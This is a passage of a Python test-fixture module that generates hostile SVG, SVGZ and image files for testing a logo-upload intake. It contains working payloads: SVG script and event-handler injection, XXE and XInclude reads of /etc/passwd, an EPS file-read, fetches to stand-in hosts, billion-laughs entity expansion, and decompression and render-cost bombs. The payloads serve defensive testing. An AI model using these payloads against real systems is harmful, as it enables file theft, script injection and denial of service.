"""Logo files as strangers may send them: some attack, some are broken, some only look odd and must be taken.

Each is a file name, its bytes and what the intake must do with it: "refused" (with a message), "safe" (taken and
drawn) or "either". Whichever it is: no crash, no file read, no request, no runaway memory. So that a test can tell:

- No file here draws magenta. `secret.png` in the folder is magenta, so magenta in a drawing means that it was read.
- Requests would go to 127.0.0.1:9 or tracker.invalid. Neither name, nor CANARY, may remain in what is kept of a file.
- Nearly all vector files draw the mark besides what they attempt: what is left when the bad is removed is a logo.
"""

from __future__ import annotations

import base64
import gzip
import html
import random
import struct
import zlib
from pathlib import Path
from urllib.parse import quote

from PIL import Image, ImageDraw, PngImagePlugin

from tests import forged

Case = tuple[str, bytes, str]

REFUSED = "refused"
SAFE = "safe"
EITHER = "either"

WEB = "http://127.0.0.1:9"  # the discard port: nobody answers
TRACKER = "https://tracker.invalid"  # a name that by RFC 2606 can never be registered
CANARY = "kanariefagel-7c1f"  # in metadata and scripts: private or dangerous, never to be published

_MARK = '<path fill="#123456" d="M20 50L60 15H100V85H60Z"/><circle cx="150" cy="50" r="30" fill="#0a7d55"/>'
_VIEW = 'viewBox="0 0 200 100"'
_ALERT = f"alert('{CANARY}')"
_SVG_NAMESPACE = "http://www.w3.org/2000/svg"
_MIB = 1 << 20


def hostile(folder: Path) -> list[Case]:
    """All of them. `folder` holds the `secret.png` that some try to read; lay the files in the same folder."""
    return [
        *_scripts(),
        *_reads(folder),
        *_requests(),
        *_entities(),
        *_from_drawing_programs(),
        *_too_many(),
        *_cycles(),
        *_costly_to_draw(),
        *_odd_sizes(),
        *_embedded(folder),
        *_svgz(),
        *_encodings(),
        *_not_pictures(),
        *_odd_pictures(),
        *_broken_pictures(),
        *_picture_bombs(),
        *_animations(),
        *_names(),
    ]


# Vector drawings


def _svg(body: str, attributes: str = _VIEW, before: str = "") -> bytes:
    """An SVG file; `before` stands ahead of the root, where declarations go."""
    return (
        f'{before}<svg xmlns="{_SVG_NAMESPACE}" xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{body}</svg>\n'
    ).encode()


def _with_mark(bodies: dict[str, str], expected: str = EITHER) -> list[Case]:
    """A file for each body, with the mark after it."""
    return [(f"{name}.svg", _svg(body + _MARK), expected) for name, body in bodies.items()]


def _scripts() -> list[Case]:
    """What would run in a browser if the logo were shown as it came."""
    xhtml = "http://www.w3.org/1999/xhtml"
    broken_out = f"</style></title><script>{_ALERT}</script>"
    cases = _with_mark(
        {
            "script-element": f"<script>{_ALERT}</script>",
            "script-cdata": f'<script type="text/ecmascript"><![CDATA[{_ALERT}]]></script>',
            "script-external": f'<script href="{TRACKER}/{CANARY}.js"/>',
            # Who looks for the word "<script" does not see these two.
            "script-prefixed": f'<x:script xmlns:x="{_SVG_NAMESPACE}">{_ALERT}</x:script>',
            "script-xhtml": f'<h:script xmlns:h="{xhtml}">{_ALERT}</h:script>',
            "onclick-attribute": f'<g onclick="{_ALERT}" OnMouseOver="{_ALERT}"><path d="M1 1h9v9z"/></g>',
            "javascript-href": f'<a href="javascript:{_ALERT}"><path d="M1 1h9v9z"/></a>'
            f'<a xlink:href="javascript:{_ALERT}"><path d="M1 1h9v9z"/></a>',
            # Browsers drop line breaks and tabs inside the scheme.
            "javascript-href-split": f'<a href=" java&#10;scr&#9;ipt:{_ALERT}"><path d="M1 1h9v9z"/></a>',
            "data-html-href": f'<a href="data:text/html,&lt;script&gt;{_ALERT}&lt;/script&gt;"><path d="M1 1h9z"/></a>',
            "foreignobject-html": f'<foreignObject width="200" height="100"><body xmlns="{xhtml}">'
            f'<p>{CANARY}</p><img src="x" onerror="{_ALERT}"/><iframe src="{TRACKER}/"/></body></foreignObject>',
            "xhtml-embed": f'<g xmlns:h="{xhtml}"><h:embed src="{TRACKER}/x.svg"/><h:video src="{WEB}/v"/></g>',
            "animate": '<rect width="9" height="9"><animate attributeName="x" to="99" dur="1s"/></rect>',
            # An address that becomes dangerous only once the animation has begun.
            "animate-href": f'<a href="#a"><set attributeName="href" to="javascript:{_ALERT}"/><path d="M1 1h9z"/></a>',
            "animate-onbegin": f'<animate attributeName="x" dur="1s" onbegin="{_ALERT}"/>',
            # Harmless in XML, but HTML's parser ends the element at the first end tag, wherever it stands.
            "breakout-style": f"<style><![CDATA[{broken_out}]]></style>",
            "breakout-title": f"<title><![CDATA[{broken_out}]]></title>",
            "breakout-comment": f"<!--><script>{_ALERT}</script>-->",
            "breakout-attribute": f'<g id="&quot;&gt;&lt;script&gt;{_ALERT}&lt;/script&gt;"><path d="M1 1h9v9z"/></g>',
        }
    )
    cases.append(("onload-root.svg", _svg(_MARK, f'{_VIEW} onload="{_ALERT}"'), EITHER))
    return cases


def _reads(folder: Path) -> list[Case]:
    """Attempts at `secret.png`, at a system file, and at any file by way of the address's base."""
    secret = folder.resolve() / "secret.png"
    uri = html.escape(secret.as_uri())
    base = html.escape(folder.resolve().as_uri() + "/")
    size = 'width="200" height="100"'
    return _with_mark(
        {
            "image-file-uri": f'<image href="{uri}" {size}/>',
            "image-file-uri-xlink": f'<image xlink:href="{uri}" {size}/>',
            "image-relative": f'<image href="secret.png" {size}/>',
            "image-relative-dot": f'<image xlink:href="./secret.png" {size}/>',
            "image-relative-up": f'<image href="../{html.escape(folder.resolve().name)}/secret.png" {size}/>',
            "image-relative-escaped": f'<image href="%73ecret.png" {size}/><image href="&#115;ecret.png" {size}/>',
            "image-absolute": f'<image href="{html.escape(str(secret))}" {size}/>',
            "image-xml-base": f'<g xml:base="{base}"><image href="secret.png" {size}/></g>',
            "image-device": f'<image href="/dev/zero" {size}/><image href="file:///dev/zero" {size}/>',
            "style-attribute-file": f"<rect {size} style=\"fill:url('{uri}#p');background:url('{uri}')\"/>",
            "fill-file": f'<rect {size} fill="url({uri}#p)" mask="url({uri}#m)" clip-path="url({uri}#c)"/>',
            "feimage-file": f'<filter id="f"><feImage href="{uri}"/></filter><rect {size} filter="url(#f)"/>',
            "pattern-file": f'<pattern id="p" width="1" height="1"><image href="{uri}" {size}/></pattern>'
            f'<rect {size} fill="url(#p)"/>',
            "xinclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
            'href="file:///etc/passwd"/>',
            "tref-file": '<text><tref xlink:href="file:///etc/passwd"/></text>',
        }
    )


def _requests() -> list[Case]:
    """Every place where an address may stand."""
    size = 'width="200" height="100"'
    shared = _base64(_svg(f'<g id="a">{_MARK}</g>'))
    cases = _with_mark(
        {
            "image-http": f'<image href="{WEB}/logo.png" {size}/><image xlink:href="{TRACKER}/logo.png" {size}/>',
            "image-no-scheme": f'<image href="//tracker.invalid/logo.png" {size}/>',
            "image-unc": rf'<image href="\\tracker.invalid\share\logo.png" {size}/>',
            "use-external": f'<use href="{WEB}/s.svg#a"/><use xlink:href="{TRACKER}/s.svg#a"/>',
            "use-data-uri": f'<use href="data:image/svg+xml;base64,{shared}#a"/>',
            "feimage-http": f'<filter id="f"><feImage href="{WEB}/x.png"/></filter><rect {size} filter="url(#f)"/>',
            "css-import": f'<style>@import url("{WEB}/a.css");@import "{TRACKER}/b.css";</style>',
            # Escapes that CSS resolves before it reads the word.
            "css-import-escaped": rf'<style>@\69mport "{TRACKER}/b.css";.a{{fill:u\72l({WEB}/x#p)}}</style>',
            "css-url": f"<style>.a{{fill:url({WEB}/x.svg#p);cursor:url({TRACKER}/c.cur),auto}}</style>"
            f'<rect class="a" {size}/>',
            "css-image-set": f'<style>svg{{background:image-set("{WEB}/x.png" 1x)}}</style>',
            "css-font-face": f"<style>@font-face{{font-family:F;src:url({TRACKER}/f.woff2)}}</style>",
            "style-attribute-http": f'<rect {size} style="mask:url({WEB}/m.svg#m);filter:url({TRACKER}/f.svg#f)"/>',
            "marker-http": f'<path d="M1 1h9" stroke="#000" marker-end="url({WEB}/m.svg#m)"/>',
            "gradient-href-http": f'<linearGradient id="g" href="{WEB}/g.svg#g"/><rect {size} fill="url(#g)"/>',
            "color-profile-http": f'<color-profile name="p" xlink:href="{WEB}/p.icc"/>',
            "link-stylesheet": f'<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{WEB}/a.css"/>',
        }
    )
    stylesheet = f'<?xml-stylesheet href="{TRACKER}/a.css" type="text/css"?>'
    transform = f'<?xml-stylesheet href="{WEB}/a.xsl" type="text/xsl"?>'
    cases.append(("xml-stylesheet.svg", _svg(_MARK, before=stylesheet + transform), EITHER))
    return cases


def _entities() -> list[Case]:
    """What a document type can do: fetch, read and grow."""

    def declared(subset: str, body: str, outside: str = "") -> bytes:
        return _svg(body + _MARK, before=f'<?xml version="1.0"?>\n<!DOCTYPE svg {outside}[{subset}]>\n')

    laughs = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    # One long entity many times: no nesting, so counting the depth does not find it. 250 MB from 65 kB.
    long = f'<!ENTITY a "{"a" * 50_000}">'
    passwd = '<!ENTITY x SYSTEM "file:///etc/passwd">'
    w3c = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    return [
        ("entity-external.svg", declared(passwd, "<title>&x;</title><desc>&x;</desc>"), EITHER),
        ("entity-external-text.svg", declared(passwd, '<text y="50">&x;</text>'), EITHER),
        ("entity-external-http.svg", declared(f'<!ENTITY x SYSTEM "{WEB}/x.xml">', "<title>&x;</title>"), EITHER),
        ("entity-external-device.svg", declared('<!ENTITY x SYSTEM "file:///dev/zero">', "<title>&x;</title>"), EITHER),
        ("entity-parameter.svg", declared(f'<!ENTITY % p SYSTEM "{WEB}/p.dtd"> %p;', ""), EITHER),
        ("entity-parameter-file.svg", declared('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;', ""), EITHER),
        ("entity-script.svg", declared(f'<!ENTITY s "<script>{_ALERT}</script>">', "&s;"), EITHER),
        ("entity-cycle.svg", declared('<!ENTITY a "&b;"><!ENTITY b "&a;">', "<title>&a;</title>"), REFUSED),
        ("entity-undefined.svg", declared("", "<title>&nbsp;</title>"), EITHER),
        ("billion-laughs.svg", declared(laughs, "<title>&l9;</title>"), REFUSED),
        ("billion-laughs-attribute.svg", declared(laughs, '<g id="&l9;"/>'), REFUSED),
        ("quadratic-blow-up.svg", declared(long, f"<title>{'&a;' * 5_000}</title>"), REFUSED),
        ("dtd-external.svg", declared("", "", f'SYSTEM "{TRACKER}/x.dtd" '), EITHER),
        ("dtd-external-file.svg", declared("", "", 'SYSTEM "file:///etc/passwd" '), EITHER),
        # Names an address too, but nearly every older drawing program writes this line. It is not for fetching.
        ("dtd-of-w3c.svg", _svg(_MARK, before=w3c), SAFE),
    ]


def _from_drawing_programs() -> list[Case]:
    """Odd, but what honest partners send: made the way Illustrator and Inkscape save."""
    adobe = "http://ns.adobe.com"
    entities = (
        '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE svg [\n'
        f'<!ENTITY ns_svg "{_SVG_NAMESPACE}">\n<!ENTITY ns_xlink "http://www.w3.org/1999/xlink">\n'
        f'<!ENTITY ns_ai "{adobe}/AdobeIllustrator/10.0/">\n<!ENTITY ns_extend "{adobe}/Extensibility/1.0/">\n]>\n'
    )
    root = '<svg version="1.1" xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;"'
    private = (
        f'{entities}{root} xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" {_VIEW} xml:space="preserve">'
        '<switch><foreignObject requiredExtensions="&ns_ai;" x="0" y="0" width="1" height="1">'
        '<i:aipgfRef xlink:href="#adobe_illustrator_pgf"/></foreignObject>'
        f'<g i:extraneous="self" i:layer="yes">{_MARK}</g></switch>'
        '<i:aipgf id="adobe_illustrator_pgf" i:pgfEncoding="zstd/base64">'
        f"<![CDATA[{CANARY}\n{'eJzs' * 2_000}]]></i:aipgf></svg>"
    )
    styled = (
        "<defs><style>.cls-1{fill:#123456;}.cls-1,.cls-2{stroke-width:0px;}.cls-2{fill:#0a7d55;}</style></defs>"
        '<path class="cls-1" d="M20 50L60 15H100V85H60Z"/><circle class="cls-2" cx="150" cy="50" r="30"/>'
    )
    inkscape = (
        'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:cc="http://creativecommons.org/ns#" '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" width="200mm" height="100mm" inkscape:version="1.4" '
        rf'sodipodi:docname="{CANARY}.svg" inkscape:export-filename="C:\Users\{CANARY}\logo.png" {_VIEW}'
    )
    layers = (
        '<sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:zoom="0.7" inkscape:current-layer="layer1">'
        '<inkscape:grid type="xygrid"/></sodipodi:namedview>'
        f'<metadata><rdf:RDF><cc:Work rdf:about=""><dc:creator>{CANARY}</dc:creator></cc:Work></rdf:RDF></metadata>'
        '<defs><inkscape:path-effect effect="spiro" id="e1"/><linearGradient id="g1"><stop stop-color="#123456"/>'
        '<stop offset="1" stop-color="#0a7d55"/></linearGradient><linearGradient id="g2" xlink:href="#g1"/></defs>'
        '<g inkscape:label="Lager 1" inkscape:groupmode="layer" id="layer1">'
        '<path style="fill:url(#g2);-inkscape-stroke:none" sodipodi:nodetypes="cccc" d="M20 50L60 15H180V85H60Z"/></g>'
    )
    return [
        ("illustrator-entities.svg", f"{entities}{root} {_VIEW}>{_MARK}</svg>".encode(), SAFE),
        ("illustrator-private-data.svg", private.encode(), SAFE),
        ("illustrator-style.svg", _svg(styled, f'id="Lager_1" data-name="Lager 1" {_VIEW}'), SAFE),
        ("inkscape.svg", _svg(layers, inkscape, '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'), SAFE),
        (
            "origin-below-zero.svg",
            _svg(f'<g transform="translate(-100 -50)">{_MARK}</g>', 'viewBox="-100 -50 200 100"'),
            SAFE,
        ),
        ("text-live.svg", _svg('<text x="10" y="60" font-size="40">Exempel</text>'), EITHER),
        ("text-live-beside-mark.svg", _svg(f'{_MARK}<text x="9" y="9" font-family="Gotham">Exempel</text>'), EITHER),
        ("no-namespace.svg", f"<svg {_VIEW}>{_MARK}</svg>".encode(), EITHER),
        ("other-namespace.svg", f'<svg xmlns="urn:x" {_VIEW}>{_MARK}</svg>'.encode(), EITHER),
    ]


def _too_many() -> list[Case]:
    """More of everything than a logo has: for parsers, and for code that calls itself."""
    rules = "".join(f".c{n}{{fill:#12{n:04x}}}" for n in range(4_000))
    styled = "".join(f'<path class="c{n}" d="M0 0h9v9z"/>' for n in range(4_000))
    dice = random.Random(1)
    points = "L".join(f"{dice.uniform(0, 200):.2f} {dice.uniform(0, 100):.2f}" for _ in range(80_000))
    stops = "".join(f'<stop offset="{n / 50_000}" stop-color="#12{n:04x}"/>' for n in range(50_000))
    attributes = " ".join(f'a{n}="{n}"' for n in range(20_000))
    return [
        ("nested-groups-20000.svg", _svg("<g>" * 20_000 + _MARK + "</g>" * 20_000), EITHER),
        ("nested-svg-5000.svg", _svg("<svg>" * 5_000 + _MARK + "</svg>" * 5_000), EITHER),
        ("nodes-100000.svg", _svg('<path d="M1 1h9v9z"/>' * 100_000 + _MARK), EITHER),
        ("attributes-20000.svg", _svg(f"<g {attributes}>{_MARK}</g>"), EITHER),
        # Each element is held against each rule.
        ("css-rules-times-elements.svg", _svg(f"<style>{rules}</style>{styled}{_MARK}"), EITHER),
        ("css-unclosed.svg", _svg(f"<style>{'@media x{' * 20_000}</style>{_MARK}"), EITHER),
        ("gradient-stops-50000.svg", _svg(f'<linearGradient id="g">{stops}</linearGradient>{_MARK}'), EITHER),
        ("path-1-mb.svg", _svg(f'<path d="M{points}z" fill="#123456" stroke="#0a7d55"/>'), EITHER),
        ("comment-2-mb.svg", _svg(f"<!--{'x' * 2_000_000}-->{_MARK}"), EITHER),
    ]


def _cycles() -> list[Case]:
    """References that lead back to themselves."""
    box = '<rect width="200" height="100"'
    return _with_mark(
        {
            "use-cycle": '<g id="a"><use href="#b"/></g><g id="b"><use xlink:href="#a"/></g>',
            "use-itself": '<use id="u" href="#u"/>',
            "use-of-parent": f'<g id="g">{box}/><use href="#g"/></g>',
            "mask-cycle": f'<mask id="a">{box} mask="url(#b)"/></mask><mask id="b">{box} mask="url(#a)"/></mask>'
            f'{box} mask="url(#a)"/>',
            "clip-path-cycle": f'<clipPath id="a" clip-path="url(#b)">{box}/></clipPath>'
            f'<clipPath id="b" clip-path="url(#a)">{box}/></clipPath>{box} clip-path="url(#a)"/>',
            "gradient-cycle": '<linearGradient id="a" href="#b"/><radialGradient id="b" xlink:href="#a"/>'
            f'{box} fill="url(#a)"/>',
            "pattern-cycle": f'<pattern id="p" width="9" height="9">{box} fill="url(#p)"/></pattern>'
            f'{box} fill="url(#p)"/>',
            "marker-cycle": '<marker id="m"><path d="M0 0h9v9" marker-mid="url(#m)"/></marker>'
            '<path d="M0 0h9v9" marker-mid="url(#m)"/>',
            "filter-cycle": f'<filter id="f"><feImage href="#r"/></filter>{box} id="r" filter="url(#f)"/>',
        }
    )


def _costly_to_draw() -> list[Case]:
    """Small files that ask for more time or memory than there is."""
    box = '<rect width="200" height="100"'

    def levels(innermost: str, level: str, repeated: str) -> str:
        """Nine levels; each holds the one below it ten times."""
        return innermost + "".join(level.format(n=n, body=repeated.format(below=n - 1) * 10) for n in range(1, 10))

    uses = levels('<path id="u0" d="M1 1h9v9z"/>', '<g id="u{n}">{body}</g>', '<use href="#u{below}"/>')
    masks = levels(
        f'<mask id="m0">{box} fill="#fff"/></mask>', '<mask id="m{n}">{body}</mask>', box + ' mask="url(#m{below})"/>'
    )
    tile = 'width="3" height="3" patternUnits="userSpaceOnUse"'
    patterns = levels(
        f'<pattern id="p0" {tile}><path d="M0 0h1v1z"/></pattern>',
        f'<pattern id="p{{n}}" {tile}>{{body}}</pattern>',
        box + ' fill="url(#p{below})"/>',
    )
    clips = levels(
        f'<clipPath id="c0">{box}/></clipPath>',
        '<clipPath id="c{n}">{body}</clipPath>',
        box + ' clip-path="url(#c{below})"/>',
    )
    region = 'x="-1000%" y="-1000%" width="2100%" height="2100%"'
    blurs = '<feGaussianBlur stdDeviation="100000"/>' * 50
    point = '<path d="M0 0h1v1z"/>'
    zigzag = "l1 1l1 -1" * 15_000

    def filtered(effect: str) -> str:
        return f'<filter id="f" {region}>{effect}</filter>{box} filter="url(#f)"/>'

    # Of the first nothing would be left without the bomb, so it cannot be taken with something left out.
    return [
        ("use-bomb.svg", _svg(f'<defs>{uses}</defs><use href="#u9"/>'), REFUSED),
        *_with_mark(
            {
                "use-bomb-beside-mark": f'<defs>{uses}</defs><use href="#u9"/>',
                "mask-bomb": f'{masks}{box} mask="url(#m9)"/>',
                "clip-path-bomb": f'{clips}{box} clip-path="url(#c9)"/>',
                "pattern-bomb": f'{patterns}{box} fill="url(#p9)"/>',
                "pattern-tiny-tile": '<pattern id="p" width="1e-7" height="1e-7" patternUnits="userSpaceOnUse">'
                f'{point}</pattern>{box} fill="url(#p)"/>',
                "marker-bomb": f'<marker id="m">{point * 100}</marker><path d="M0 0{zigzag}" marker-mid="url(#m)"/>',
                # Each group is a layer as large as the drawing, and all of them are open at once.
                "layers-900": '<g opacity=".99">' * 900 + _MARK + "</g>" * 900,
                "blur-chain": filtered(blurs),
                "filter-region-huge": f'<filter id="f" x="-1e9" y="-1e9" width="2e9" height="2e9">{blurs}</filter>'
                f'{box} filter="url(#f)"/>',
                "turbulence-octaves": filtered(
                    # Grey, since noise may come out magenta too.
                    '<feTurbulence baseFrequency="9" numOctaves="2000000000"/>'
                    '<feColorMatrix type="saturate" values="0"/>'
                ),
                "morphology-radius": filtered('<feMorphology operator="dilate" radius="100000"/>'),
                "convolve-order": filtered('<feConvolveMatrix order="40000" kernelMatrix="1"/>'),
                "dash-bomb": '<path fill="none" stroke="#000" stroke-dasharray="0.0001" d="M0 50H1000000"/>',
                "numbers-huge": '<path stroke="#000" stroke-width="1e30" d="M-1e38-1e38L1e38 1e38 1e309 9"/>',
                "numbers-nan": '<path d="MNaN 0Linf 9zM0 0A-1 NaN 0 0 1 9 9"/><circle r="NaN"/><rect width="-1e400"/>',
                "transform-huge": f'<g transform="scale(1e20) rotate(1e30) skewX(90)">{_MARK}</g>',
                "transform-singular": f'<g transform="matrix(0 0 0 0 0 0)">{_MARK}</g>',
            }
        ),
    ]


def _odd_sizes() -> list[Case]:
    """Sizes that no picture can have, or none that is told."""
    attributes = {
        "aspect-million-wide": 'viewBox="0 0 1000000 1"',
        "aspect-million-high": 'viewBox="0 0 1 1000000" width="1" height="1000000"',
        "width-1e30": f'width="1e30" height="1e30" {_VIEW}',
        "width-1e30-no-viewbox": 'width="1e30" height="1e30"',
        "width-100000": 'width="100000" height="50000"',
        "size-zero": 'width="0" height="0"',
        "size-below-zero": f'width="-200" height="-100" {_VIEW}',
        "size-not-a-number": f'width="NaN" height="Infinity" {_VIEW}',
        "size-unit-unknown": f'width="200parsec" height="1e9em" {_VIEW}',
        "viewbox-zero": 'viewBox="0 0 0 0"',
        "viewbox-below-zero": 'viewBox="0 0 -200 -100"',
        "viewbox-nan": 'viewBox="NaN NaN NaN NaN"',
        "viewbox-infinite": 'viewBox="-1e400 -1e400 1e400 1e400"',
        "viewbox-tiny": 'viewBox="0 0 1e-30 1e-30"',
        "viewbox-elsewhere": 'viewBox="5000 5000 200 100"',
        "viewbox-three-numbers": 'viewBox="0 0 200"',
        "size-none": "",
    }
    cases = [(f"{name}.svg", _svg(_MARK, given), EITHER) for name, given in attributes.items()]
    cases.append(("nothing-drawn.svg", _svg(""), REFUSED))
    return cases


def _embedded(folder: Path) -> list[Case]:
    """Pictures inside the drawing, as data: addresses."""
    secret = html.escape((folder.resolve() / "secret.png").as_uri())
    reads = "".join(f'<image href="{address}" width="200" height="100"/>' for address in (secret, "secret.png"))
    inner = _svg(f"<script>{_ALERT}</script>{reads}{_MARK}")
    cut = forged.saved(_picture("L"), "JPEG")  # grey, or the broken part may come out in any colour, magenta too
    cut = cut[: len(cut) // 2] + b"\xff\x00\xff" * 40

    def image(kind: str, data: bytes) -> str:
        return f'<image width="200" height="100" href="data:{kind};base64,{_base64(data)}"/>'

    return _with_mark(
        {
            "embedded-png": image("image/png", forged.saved(_picture("RGBA"), "PNG")),
            "embedded-png-bomb": image("image/png", forged.black_png(30_000, 30_000)),
            "embedded-svg": image("image/svg+xml", inner),
            "embedded-svg-percent": f'<image width="200" height="100" href="data:image/svg+xml,{quote(inner)}"/>',
            "embedded-svgz-bomb": image("image/svg+xml", _svgz_bomb()),
            # The kind that is said is not the kind it is.
            "embedded-svg-as-png": image("image/png", inner),
            "embedded-jpeg-broken": image("image/jpeg", cut),
            "embedded-not-base64": '<image width="200" height="100" href="data:image/png;base64,%%%=åäö"/>',
        }
    )


def _svgz() -> list[Case]:
    """The same drawings, compressed."""
    good = gzip.compress(_svg(_MARK), mtime=0)
    return [
        ("good.svgz", good, SAFE),
        ("bomb-200-mb.svgz", _svgz_bomb(), REFUSED),
        ("bomb-named-plain.svg", _svgz_bomb(), REFUSED),
        # Says in its last four bytes that it is small. Who believes them unpacks it all.
        ("bomb-200-mb-lying.svgz", _svgz_bomb()[:-4] + struct.pack("<I", 300), REFUSED),
        ("script.svgz", gzip.compress(_svg(f"<script>{_ALERT}</script>{_MARK}"), mtime=0), EITHER),
        ("twice.svgz", gzip.compress(good, mtime=0), EITHER),
        (
            "two-members.svgz",
            gzip.compress(_svg(_MARK)[:99], mtime=0) + gzip.compress(_svg(_MARK)[99:], mtime=0),
            EITHER,
        ),
        ("truncated.svgz", good[: len(good) // 2], REFUSED),
        ("wrong-checksum.svgz", good[:-8] + bytes(4) + good[-4:], EITHER),
        ("garbage-after.svgz", good + b"<script>" + CANARY.encode(), EITHER),
        ("not-compressed.svgz", _svg(_MARK), EITHER),
        ("good-named-plain.svg", good, EITHER),
        ("header-only.svgz", good[:10], REFUSED),
    ]


def _encodings() -> list[Case]:
    """Text that is not the UTF-8 one expects, or not XML to its end."""
    plain = _svg(_MARK).decode()
    titled = _svg(f"<title>Räksmörgås</title>{_MARK}").decode()
    # Plain text to who reads UTF-8; a script to who believes the declaration.
    utf7 = f"<desc>+ADw-/desc+AD4-+ADw-script+AD4-{_ALERT}+ADw-/script+AD4-+ADw-desc+AD4-</desc>{_MARK}"

    def declaration(encoding: str) -> str:
        return f'<?xml version="1.0" encoding="{encoding}"?>\n'

    return [
        ("utf-8-bom.svg", b"\xef\xbb\xbf" + _svg(_MARK), EITHER),
        ("utf-16-bom.svg", (declaration("UTF-16") + titled).encode("utf-16"), EITHER),
        ("utf-16-bom-script.svg", _svg(f"<script>{_ALERT}</script>{_MARK}").decode().encode("utf-16"), EITHER),
        ("utf-16-no-bom.svg", plain.encode("utf-16-be"), EITHER),
        ("utf-32.svg", plain.encode("utf-32"), EITHER),
        ("latin-1.svg", (declaration("ISO-8859-1") + titled).encode("latin-1"), EITHER),
        ("latin-1-undeclared.svg", titled.encode("latin-1"), EITHER),
        ("utf-7.svg", _svg(utf7, before=declaration("UTF-7")), EITHER),
        ("encoding-unknown.svg", _svg(_MARK, before=declaration("x-no-such")), EITHER),
        ("encoding-lies.svg", _svg(_MARK, before=declaration("UTF-16")), EITHER),
        ("surrogates.svg", plain.replace("<path", "<desc>\ud800</desc><path").encode("utf-8", "surrogatepass"), EITHER),
        ("zero-bytes.svg", _svg(_MARK) + bytes(1000), EITHER),
        ("truncated.svg", _svg(_MARK)[:-30], REFUSED),
        ("truncated-in-tag.svg", _svg(_MARK)[:130], REFUSED),
        ("tags-crossed.svg", _svg(f"<g><a>{_MARK}</g></a>"), REFUSED),
        ("two-roots.svg", _svg(_MARK) * 2, REFUSED),
        ("title-control-characters.svg", _svg(f"<title>Ex\x07em\x1b[31mpel\x00</title>{_MARK}"), EITHER),
        # XML 1.1 allows these, as references.
        (
            "title-control-references.svg",
            _svg(f"<title>&#27;[2J&#7;</title>{_MARK}", before='<?xml version="1.1"?>'),
            EITHER,
        ),
        ("title-turns-around.svg", _svg(f"<title>Exempel\u202egnp.\u2066\u200b\u0085</title>{_MARK}"), EITHER),
    ]


# Files that are something else than their name says


def _not_pictures() -> list[Case]:
    """Other kinds of file under a picture's name."""
    noise = random.Random(2).randbytes(4096)
    page = f"<!doctype html><html><head><script>{_ALERT}</script></head><body><br><svg></svg></body></html>"
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{_svg(_MARK).decode()}</body></html>'
    pdf = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\nendobj\n%%EOF\n"
    # Pillow hands such a file to Ghostscript, if there is one: a program run on a stranger's program.
    eps = (
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 200 100\n%%EndComments\n(/etc/passwd) (r) file\nshowpage\n%%EOF\n"
    )
    picture = _picture("RGB")
    return [
        *[(f"empty{suffix}", b"", REFUSED) for suffix in (".svg", ".svgz", ".png", ".jpg", ".webp", ".gif")],
        *[(f"noise{suffix}", noise, REFUSED) for suffix in (".svg", ".svgz", ".png", ".jpg", ".webp", ".gif")],
        ("html.svg", page.encode(), REFUSED),
        ("xhtml.svg", xhtml.encode(), REFUSED),
        ("pdf.svg", pdf, REFUSED),
        ("pdf.png", pdf, REFUSED),
        ("zip.svg", b"PK\x03\x04" + bytes(200), REFUSED),
        ("spaces.svg", b" " * 5000, REFUSED),
        ("eps.png", eps, REFUSED),
        ("bmp.png", forged.saved(picture, "BMP"), REFUSED),
        ("tiff.png", forged.saved(picture, "TIFF"), REFUSED),
        ("ico.png", forged.saved(picture.resize((64, 64)), "ICO"), REFUSED),
        ("ppm.jpg", forged.saved(picture, "PPM"), REFUSED),
        ("html.jpg", page.encode(), REFUSED),
        ("png-named.jpg", forged.saved(picture, "PNG"), EITHER),
        ("jpeg-named.png", forged.saved(picture, "JPEG"), EITHER),
        ("png-named.svg", forged.saved(picture, "PNG"), EITHER),
        ("svg-named.png", _svg(f'<image href="{WEB}/x.png"/>{_MARK}'), EITHER),
    ]


# Pictures made of points


def _picture(mode: str) -> Image.Image:
    """A plain logo, dark on white, or on nothing if the mode can say so."""
    clear = mode in ("RGBA", "LA")
    image = Image.new("RGBA", (640, 320), (255, 255, 255, 0 if clear else 255))
    pen = ImageDraw.Draw(image)
    pen.polygon([(64, 160), (192, 48), (320, 48), (320, 272), (192, 272)], fill=(18, 52, 86, 255))
    pen.ellipse((380, 60, 580, 260), fill=(10, 125, 85, 255))
    # CMYK has no way from RGBA.
    return image.convert("RGB").convert(mode) if mode == "CMYK" else image.convert(mode)


def _odd_pictures() -> list[Case]:
    """Sound pictures that carry more than a picture, or carry it in an uncommon way."""
    exif = Image.Exif()
    exif[0x0112] = 6  # lies on its side
    exif[0x010E] = CANARY
    exif[0x8825] = {1: "N", 2: (59.0, 19.0, 46.0), 3: "E", 4: (18.0, 4.0, 7.0)}  # where it was taken
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", CANARY)
    text.add_text("Comment", f"<script>{_ALERT}</script>", zip=True)
    text.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{CANARY}</x:xmpmeta>")
    colour, clear, grey = _picture("RGB"), _picture("RGBA"), _picture("L")
    return [
        ("plain.png", forged.saved(clear, "PNG"), SAFE),
        ("plain.jpg", forged.saved(colour, "JPEG"), SAFE),
        ("plain.webp", forged.saved(clear, "WEBP", lossless=True), SAFE),
        ("plain.gif", forged.saved(colour, "GIF"), SAFE),
        ("exif-turned-gps.jpg", forged.saved(colour, "JPEG", exif=exif), SAFE),
